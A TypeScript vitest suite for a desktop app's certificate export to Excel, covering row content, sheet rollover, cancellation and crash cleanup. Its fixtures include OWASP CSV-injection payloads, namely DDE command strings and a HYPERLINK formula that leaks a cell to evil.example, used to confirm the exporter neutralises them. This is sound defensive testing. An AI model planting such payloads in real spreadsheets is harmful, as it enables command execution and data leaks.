// 导出证书 below the UI: the real export worker (from source) reads a real cache written
// by the real database worker; the workbook is read back with openpyxl, not exceljs.

import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CertificateExportQuery, CertificateRow, ExportState } from '../../preload/contract';
import { EXPORT_COLUMNS, neutralized, rowValues } from '../../main/export/columns';
import { runExport } from '../../main/export/export-runner';
import { silentLogger } from '../../main/log/logger';
import type { CertificateDto } from '../../main/net/contract';
import { ExportService } from '../../main/services/export/export-service';
import type { Profile } from '../../main/services/session/session-service';
import { makeCertificate } from '../fixtures/certificates';
import { openTestProfile, removeTestProfiles } from '../support/app-services';
import { plain, readWorkbook, type ReadSheet } from '../support/openpyxl';

const EXPORT_WORKER = { path: resolve('test/support/export-worker-from-source.cjs'), execArgv: [] as string[] };

/** The OWASP CSV-injection examples, and the characters a spreadsheet takes as a formula start. */
const OWASP = [
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  '+1+1',
  '-1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
  "\t=cmd|' /C calc'!A0",
  "\r=cmd|' /C calc'!A0",
];

const HEADER = ['证书编号', '证书类型', '申请人', '目的国', '签发日期', '版式状态', '归档状态', '打印状态', '异常打印次数', '解决办法'];
const LABELS: Record<string, string> = {
  generated: '海关端生成', sending: '发送中', received: '接收成功', archived: '已归档', unarchived: '未归档', pending: '待打印', printed: '已打印',
};
const SOLUTION = EXPORT_COLUMNS.findIndex((column) => column.header === '解决办法');
/** 解决办法 as the app derives it from the row's self-print status (its words are held to the UI's in export-columns.test.ts). */
const solution = (row: CertificateRow) => rowValues(row)[SOLUTION];

/** Applicant codes: 甲 is the enterprise itself, authorized since mid-2023; 乙 a principal that never authorized. */
const JIA = '91330200MA2JIAAAAX';
const YI = '91330100MA2YIAAAAX';

/** What any XML reader sees of a text: XML turns every line end into LF (XML 1.0 §2.11). */
const asXmlReads = (text: string) => text.replace(/\r\n?/g, '\n');
const exported = (text: string) => asXmlReads(neutralized(text));

let profile: Profile;
let root: string;
const BULK = 30_000;

function day(index: number): string {
  const date = new Date(Date.UTC(2023, 0, 1) + (index % 700) * 86_400_000);
  return date.toISOString().slice(0, 10);
}

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'co-export-'));
  profile = openTestProfile();
  const items: CertificateDto[] = [];
  const types = ['E', 'K', 'RC', 'C'] as const;
  for (let index = 0; index < BULK; index += 1) {
    items.push(
      makeCertificate({
        type: types[index % types.length],
        applicant: index % 3 === 0 ? '宁波甲贸易有限公司' : '杭州乙进出口有限公司',
        applicantCode: index % 3 === 0 ? JIA : YI,
        issueDate: day(index),
        approvedAt: `${day(index)}T02:00:00.000Z`,
        exceptionPrintCount: index % 5,
        layoutStatus: index % 7 === 0 ? 'sending' : 'received',
        printStatus: index % 2 === 0 ? 'printed' : 'pending',
      }),
    );
  }
  OWASP.forEach((payload, index) =>
    items.push(makeCertificate({ applicant: payload, destinationCountry: payload, issueDate: '2026-01-0' + String(index + 1), type: 'T' })),
  );
  for (let start = 0; start < items.length; start += 2000) {
    await profile.db.call('applyChangesPage', items.slice(start, start + 2000), start + 2000);
  }
  // So that 解决办法 has words: 甲's certificates approved before its authorization, all of
  // 乙's (it never authorized), and the OWASP rows (their applicant is not listed at all).
  await profile.db.call(
    'replaceEnterprises',
    {
      self: { enterprise: { code: JIA, customsCode: null, name: '宁波甲贸易有限公司' }, selfPrintSince: '2023-06-01T00:00:00+08:00' },
      principals: [{ enterprise: { code: YI, customsCode: null, name: '杭州乙进出口有限公司' }, grantId: 'g1', grantedAt: '2022-01-01T00:00:00+08:00', revokedAt: null, selfPrintSince: null }],
    },
    '2026-01-10T00:00:00.000Z',
  );
});

afterAll(async () => {
  await profile.db.close();
  removeTestProfiles();
  rmSync(root, { recursive: true, force: true });
});

interface Harness {
  service: ExportService;
  states: ExportState[];
  /** Resolves with the export's final state. */
  ended(): Promise<ExportState>;
}

function harness(answer: () => string | null, options: { rowsPerSheet?: number; onState?: (state: ExportState, service: ExportService) => void } = {}): Harness {
  const states: ExportState[] = [];
  let resolveEnd: (state: ExportState) => void = () => {};
  const end = new Promise<ExportState>((resolveState) => (resolveEnd = resolveState));
  const service: ExportService = new ExportService({
    profile: () => profile,
    chooseSavePath: async () => answer(),
    worker: EXPORT_WORKER,
    journalPath: join(root, 'export-temp.json'),
    emit: (state) => {
      states.push(state);
      options.onState?.(state, service);
      if (state.state !== 'running' && state.state !== 'idle') resolveEnd(state);
    },
    log: silentLogger,
    rowsPerSheet: options.rowsPerSheet,
  });
  return { service, states, ended: () => end };
}

async function expected(query: CertificateExportQuery): Promise<CertificateRow[]> {
  const rows: CertificateRow[] = [];
  for (let offset = 0; ; offset += 1000) {
    const page = await profile.db.call('searchCertificates', { ...query, offset, limit: 1000 });
    rows.push(...page.rows);
    if (page.rows.length < 1000) return rows;
  }
}

function newDir(): string {
  const dir = join(root, `case-${Math.random().toString(36).slice(2)}`);
  mkdirSync(dir);
  return dir;
}

function checkAgainst(sheets: ReadSheet[], rows: CertificateRow[]): void {
  const data = sheets.flatMap((sheet) => sheet.rows.slice(1));
  expect(data.length).toBe(rows.length);
  rows.forEach((row, index) => {
    const cells = data[index];
    if (!cells) throw new Error(`row ${index} missing`);
    expect(cells, `row ${index}`).toHaveLength(EXPORT_COLUMNS.length);
    expect(cells.map(plain), `row ${index}`).toEqual([
      exported(row.number),
      expect.stringMatching(new RegExp(`^${row.type}( |$)`)),
      exported(row.applicant),
      exported(row.destinationCountry),
      `${row.issueDate}T00:00:00`,
      LABELS[row.layoutStatus],
      LABELS[row.archiveStatus],
      LABELS[row.printStatus],
      row.exceptionPrintCount,
      solution(row),
    ]);
    expect(cells[4]?.type).toBe('datetime');
    expect(cells[8]?.type).toBe('number');
  });
}

describe('导出证书', () => {
  it('writes every row of the query, in the list order, with a frozen Chinese header, dates as dates and counts as numbers', async () => {
    const target = join(newDir(), '证书.xlsx');
    const { service, ended } = harness(() => target);
    const query: CertificateExportQuery = { type: 'E', applicant: '甲贸易' };
    expect(await service.start(query)).toEqual({ exportId: expect.any(String), path: target });
    const end = await ended();
    const rows = await expected(query);
    expect(rows.length).toBeGreaterThan(1000);
    expect(end).toMatchObject({ state: 'done', path: target, rows: rows.length });

    const sheets = await readWorkbook(target);
    expect(sheets).toHaveLength(1);
    const [sheet] = sheets;
    if (!sheet) throw new Error('no sheet');
    expect(sheet.name).toBe('证书');
    expect(sheet.freezePanes).toBe('A2');
    expect(sheet.rows[0]?.map(plain)).toEqual(HEADER);
    expect(sheet.dataTypes[0]?.every((type) => type === 's')).toBe(true);
    expect(Object.keys(sheet.widths).sort()).toEqual(['A', 'B', 'C', 'D', 'E', 'F', 'G', 'H', 'I', 'J']);
    expect(sheet.widths.C).toBeGreaterThanOrEqual(30);
    checkAgainst(sheets, rows);
    expect(readdirSync(join(target, '..'))).toEqual(['证书.xlsx']);
  });

  it('exports the whole cache without conditions, rolling over to a second sheet past the sheet size', async () => {
    const target = join(newDir(), 'all.xlsx');
    const { service, ended } = harness(() => target, { rowsPerSheet: 20_000 });
    await service.start({});
    const end = await ended();
    expect(end).toMatchObject({ state: 'done', rows: BULK + OWASP.length });
    const sheets = await readWorkbook(target);
    expect(sheets.map((sheet) => sheet.name)).toEqual(['证书', '证书(2)']);
    for (const sheet of sheets) {
      expect(sheet.freezePanes).toBe('A2');
      expect(sheet.rows[0]?.map(plain)).toEqual(HEADER);
    }
    checkAgainst(sheets, await expected({}));
    // The cache holds every refusal, so 解决办法 is compared with its words, not only with blanks.
    const solutions = sheets.flatMap((sheet) => sheet.rows.slice(1).map((row) => plain(row[SOLUTION] ?? { type: 'empty' })));
    expect(new Set(solutions)).toEqual(new Set([null, '审批早于授权', '未授权', '未获代理授权']));
  });

  it('writes text that starts with = + - @ tab or CR with a leading quote, as string cells that no spreadsheet evaluates', async () => {
    const target = join(newDir(), 'injection.xlsx');
    const { service, ended } = harness(() => target);
    await service.start({ type: 'T' });
    expect(await ended()).toMatchObject({ state: 'done', rows: OWASP.length });
    const [sheet] = await readWorkbook(target);
    if (!sheet) throw new Error('no sheet');
    const applicants = sheet.rows.slice(1).map((row) => plain(row[2] as never));
    const countries = sheet.rows.slice(1).map((row) => plain(row[3] as never));
    expect(new Set(applicants)).toEqual(new Set(OWASP.map((payload) => asXmlReads(`'${payload}`))));
    expect(new Set(countries)).toEqual(new Set(OWASP.map((payload) => asXmlReads(`'${payload}`))));
    // No formula anywhere: openpyxl marks a formula cell 'f'.
    expect(sheet.dataTypes.flat()).not.toContain('f');
    for (const row of sheet.dataTypes.slice(1)) expect([row[2], row[3]]).toEqual(['s', 's']);
  });

  it('a cancelled export leaves no file, and an existing target keeps its bytes', async () => {
    const dir = newDir();
    const target = join(dir, 'existing.xlsx');
    writeFileSync(target, 'the user’s earlier file');
    const { service, ended } = harness(() => target, {
      onState: (state, running) => {
        if (state.state === 'running' && state.written > 0) running.cancel();
      },
    });
    await service.start({});
    expect(await ended()).toMatchObject({ state: 'cancelled' });
    expect(readFileSync(target, 'utf8')).toBe('the user’s earlier file');
    expect(readdirSync(dir)).toEqual(['existing.xlsx']);
  });

  it('replaces an existing file only with a complete workbook', async () => {
    const dir = newDir();
    const target = join(dir, 'existing.xlsx');
    writeFileSync(target, 'old');
    const { service, ended } = harness(() => target);
    await service.start({ type: 'T' });
    expect(await ended()).toMatchObject({ state: 'done', rows: OWASP.length });
    expect((await readWorkbook(target))[0]?.rows).toHaveLength(OWASP.length + 1);
    expect(readdirSync(dir)).toEqual(['existing.xlsx']);
  });

  it('a folder that vanishes while the rows are written fails in Chinese and leaves nothing', async () => {
    const dir = newDir();
    const target = join(dir, 'gone.xlsx');
    const { service, ended } = harness(() => target, {
      onState: (state) => {
        if (state.state === 'running' && state.written > 0 && existsSync(dir)) rmSync(dir, { recursive: true, force: true });
      },
    });
    await service.start({});
    const end = await ended();
    expect(end).toMatchObject({ state: 'failed', error: { code: 'EXPORT_FAILED', message: expect.stringMatching(/^导出失败:无法写入文件/) } });
    expect(existsSync(dir)).toBe(false);
  });

  it('a folder that does not exist, or a target that is a folder, fails in Chinese and changes nothing', async () => {
    const missing = join(root, 'no-such-folder', 'x.xlsx');
    const first = harness(() => missing);
    await first.service.start({ type: 'T' });
    expect(await first.ended()).toMatchObject({ state: 'failed', error: { code: 'EXPORT_FAILED' } });
    expect(existsSync(join(root, 'no-such-folder'))).toBe(false);

    const dir = newDir();
    const folder = join(dir, 'folder.xlsx');
    mkdirSync(folder);
    writeFileSync(join(folder, 'inside.txt'), 'kept');
    const second = harness(() => folder);
    await second.service.start({ type: 'T' });
    expect(await second.ended()).toMatchObject({ state: 'failed', error: { code: 'EXPORT_FAILED', message: expect.stringContaining('导出失败') } });
    expect(readdirSync(dir)).toEqual(['folder.xlsx']);
    expect(readdirSync(folder)).toEqual(['inside.txt']);
  });

  it('a closed save dialog exports nothing; a second start while one runs is refused as BUSY', async () => {
    const idle = harness(() => null);
    expect(await idle.service.start({})).toBeNull();
    expect(idle.states).toEqual([]);
    expect(idle.service.current()).toEqual({ state: 'idle' });

    const dir = newDir();
    const { service, ended } = harness(() => join(dir, 'busy'));
    const started = await service.start({});
    // The extension the Linux dialog leaves out is added.
    expect(started?.path).toBe(join(dir, 'busy.xlsx'));
    await expect(service.start({})).rejects.toMatchObject({ code: 'BUSY' });
    expect(await ended()).toMatchObject({ state: 'done', rows: BULK + OWASP.length });
    expect(readdirSync(dir)).toEqual(['busy.xlsx']);
  });

  it('a crash mid-export leaves a temp file that the next start removes, and only that', async () => {
    const dir = newDir();
    const target = join(dir, 'crashed.xlsx');
    let journal = '';
    let temp = '';
    const { service, ended } = harness(() => target, {
      onState: (state, running) => {
        if (state.state !== 'running' || state.written === 0 || journal !== '') return;
        // What a crash at this instant leaves: the journal and the half-written temp file.
        journal = readFileSync(join(root, 'export-temp.json'), 'utf8');
        temp = (JSON.parse(journal) as string[])[0] ?? '';
        copyFileSync(temp, join(root, 'half-written.part'));
        running.cancel();
      },
    });
    await service.start({});
    expect(await ended()).toMatchObject({ state: 'cancelled' });
    expect(temp.startsWith(join(dir, '.crashed.xlsx.'))).toBe(true);
    expect(readdirSync(dir)).toEqual([]);
    // The crash: the journal still lists it, the file is still there, and a stranger's file beside it.
    copyFileSync(join(root, 'half-written.part'), temp);
    writeFileSync(join(dir, 'report.part'), 'not ours');
    writeFileSync(join(root, 'export-temp.json'), JSON.stringify([...(JSON.parse(journal) as string[]), join(dir, 'report.part')]));

    await harness(() => null).service.sweepLeftovers();
    expect(readdirSync(dir)).toEqual(['report.part']);
    expect(JSON.parse(readFileSync(join(root, 'export-temp.json'), 'utf8'))).toEqual([]);
  });

  it('a cache that is not a database, or a worker that cannot start, fails in Chinese and leaves nothing', async () => {
    const dir = newDir();
    const notADatabase = join(root, 'not-a-database.sqlite');
    writeFileSync(notADatabase, 'this is not SQLite'.repeat(100));
    const base = { query: {}, target: join(dir, 'x.xlsx'), onProgress: () => {}, log: silentLogger };
    await expect(runExport({ ...base, workerPath: EXPORT_WORKER.path, databasePath: notADatabase })).rejects.toMatchObject({
      code: 'EXPORT_FAILED',
      message: '导出失败:无法读取本地证书数据,请稍后重新导出。',
    });
    await expect(runExport({ ...base, workerPath: join(root, 'no-such-worker.cjs'), databasePath: profile.db.databasePath })).rejects.toMatchObject({
      code: 'EXPORT_FAILED',
      message: expect.stringMatching(/^导出失败/),
    });
    expect(readdirSync(dir)).toEqual([]);
  });
});
